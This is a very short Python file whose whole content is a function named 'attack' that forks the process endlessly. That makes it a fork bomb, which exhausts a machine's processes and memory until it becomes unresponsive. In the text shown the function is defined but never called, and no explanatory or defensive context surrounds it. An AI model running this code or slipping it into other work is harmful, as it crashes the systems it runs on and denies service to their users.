import os


def attack():
    while True:
        os.fork()
